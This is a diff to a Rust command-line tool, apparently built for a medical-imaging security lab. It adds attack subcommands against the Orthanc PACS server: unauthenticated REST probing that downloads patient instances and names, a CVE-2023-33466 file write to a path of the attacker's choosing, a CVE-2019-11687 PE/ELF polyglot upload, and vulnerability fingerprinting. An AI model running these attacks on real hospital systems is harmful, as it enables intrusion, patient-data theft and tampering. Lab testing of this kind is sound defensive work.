@@ -5,6 +5,8 @@
 //! the target was unreachable, 1 on any other error (with `"error"` in the JSON), 2 on bad
 //! usage.
 
+use super::fingerprint::{self, FingerprintOptions};
+use super::rest::{self, Preamble, Rest};
 use super::scan::{self, FloodOptions, ScanOptions};
 use crate::cli::emit;
 use crate::error::AgentError;
@@ -13,8 +15,100 @@ use serde_json::{Value, json};
 use std::process::ExitCode;
 use std::time::Duration;
 
+/// Where Orthanc's REST API is and how to log in.
+#[derive(Debug, clap::Args)]
+pub struct RestArgs {
+    /// Base URL of Orthanc's REST API.
+    #[arg(long, default_value = "http://pacs:8042")]
+    pub url: String,
+    /// HTTP Basic user (none: unauthenticated).
+    #[arg(long)]
+    pub user: Option<String>,
+    #[arg(long)]
+    pub password: Option<String>,
+    /// Connect timeout in seconds (each request: 6x this at most).
+    #[arg(long, default_value_t = 5)]
+    pub timeout_secs: u64,
+}
+
+impl RestArgs {
+    fn client(&self) -> Result<Rest, AgentError> {
+        Rest::new(
+            &self.url,
+            self.user.as_deref(),
+            self.password.as_deref(),
+            Duration::from_secs(self.timeout_secs.clamp(1, 60)),
+        )
+    }
+}
+
 #[derive(Debug, Subcommand)]
 pub enum AttackCommand {
+    /// Read Orthanc's REST API without (or with given) credentials: /system, /patients,
+    /// /instances, and with --download the first instance's file and tags.
+    #[command(
+        name = "rest-probe",
+        after_help = "Example:\n  lab-agent rest-probe --url http://pacs:8042 --download"
+    )]
+    RestProbe {
+        #[command(flatten)]
+        rest: RestArgs,
+        /// Download the first instance (/instances/{id}/file, bytes counted) and read its
+        /// PatientName (/instances/{id}/simplified-tags).
+        #[arg(long)]
+        download: bool,
+    },
+    /// CVE-2023-33466: make Orthanc write a stored instance to a path of our choosing
+    /// (POST /instances/{id}/export); uploads a small synthetic instance if none is stored.
+    #[command(
+        name = "rest-write",
+        after_help = "Example:\n  lab-agent rest-write --url http://pacs:8042 --path /tmp/dicom-range-pwned.txt"
+    )]
+    RestWrite {
+        #[command(flatten)]
+        rest: RestArgs,
+        /// Absolute path, on the PACS, to write.
+        #[arg(long)]
+        path: String,
+    },
+    /// CVE-2019-11687: upload (POST /instances) a Part 10 file whose preamble is a PE or
+    /// ELF header (tiff: a legitimate TIFF preamble, for comparison). REST only: over
+    /// DICOM the preamble does not travel (P-DATA carries the data set only).
+    #[command(
+        name = "upload-polyglot",
+        after_help = "Example:\n  lab-agent upload-polyglot --url http://pacs:8042 --preamble pe"
+    )]
+    UploadPolyglot {
+        #[command(flatten)]
+        rest: RestArgs,
+        /// pe, elf or tiff.
+        #[arg(long)]
+        preamble: Preamble,
+    },
+    /// Version fingerprint: implementation class UID / version name from the
+    /// A-ASSOCIATE-AC, Orthanc's REST /system Version, against known vulnerabilities.
+    #[command(
+        after_help = "Example:\n  lab-agent fingerprint --host pacs --port 4242 --url http://pacs:8042"
+    )]
+    Fingerprint {
+        #[arg(long)]
+        host: String,
+        #[arg(long, default_value_t = 4242)]
+        port: u16,
+        #[arg(long, default_value = "ECHOSCU")]
+        calling: String,
+        #[arg(long, default_value = "ORTHANC")]
+        called: String,
+        /// Orthanc's REST API (optional).
+        #[arg(long)]
+        url: Option<String>,
+        #[arg(long)]
+        user: Option<String>,
+        #[arg(long)]
+        password: Option<String>,
+        #[arg(long, default_value_t = 5)]
+        timeout_secs: u64,
+    },
     /// Probe AE titles as nmap's dicom-ping/dicom-brute do: one A-ASSOCIATE-RQ for
     /// Verification per called AE title (released when accepted).
     #[command(
@@ -102,6 +196,40 @@ pub fn finish(r: Result<Value, (Value, AgentError)>) -> ExitCode {
 
 pub fn run(cmd: AttackCommand) -> ExitCode {
     match cmd {
+        AttackCommand::RestProbe { rest, download } => match rest.client() {
+            Ok(r) => finish(rest::probe(&r, download)),
+            Err(e) => finish(Err((json!({"action": "rest-probe"}), e))),
+        },
+        AttackCommand::RestWrite { rest, path } => match rest.client() {
+            Ok(r) => finish(rest::rest_write(&r, &path)),
+            Err(e) => finish(Err((json!({"action": "rest-write", "path": path}), e))),
+        },
+        AttackCommand::UploadPolyglot { rest, preamble } => match rest.client() {
+            Ok(r) => finish(rest::upload_polyglot(&r, preamble)),
+            Err(e) => finish(Err((
+                json!({"action": "upload-polyglot", "preamble": preamble.name()}),
+                e,
+            ))),
+        },
+        AttackCommand::Fingerprint {
+            host,
+            port,
+            calling,
+            called,
+            url,
+            user,
+            password,
+            timeout_secs,
+        } => finish(fingerprint::fingerprint(&FingerprintOptions {
+            host,
+            port,
+            calling,
+            called,
+            url,
+            user,
+            password,
+            timeout: Duration::from_secs(timeout_secs.clamp(1, 60)),
+        })),
         AttackCommand::AetScan {
             host,
             port,
